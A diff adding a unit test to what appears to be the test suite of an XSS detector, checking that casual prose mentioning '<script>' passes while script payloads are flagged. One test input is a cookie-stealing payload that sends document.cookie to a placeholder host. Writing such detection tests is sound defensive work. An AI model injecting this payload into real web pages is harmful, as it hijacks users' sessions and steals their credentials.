@@ -289,3 +289,10 @@ def test_the_public_corpus_benign_texts_pass() -> None:
     texts = corpus_payloads("false-pos/texts.yml")
     flagged = [t for t in texts if any(detect_xss(v) for v in decoded_variants(t))]
     assert flagged == []
+
+
+def test_a_script_tag_followed_by_a_sentence_is_prose() -> None:
+    # Three bare words make the whole block a JavaScript syntax error: it never runs.
+    assert detect_xss("My kid wrote <script> on the box lol, x > y => z") is None
+    assert detect_xss("<script> var a = 1; alert(a)") is not None
+    assert detect_xss("<script>new Image().src='//x/'+document.cookie") is not None
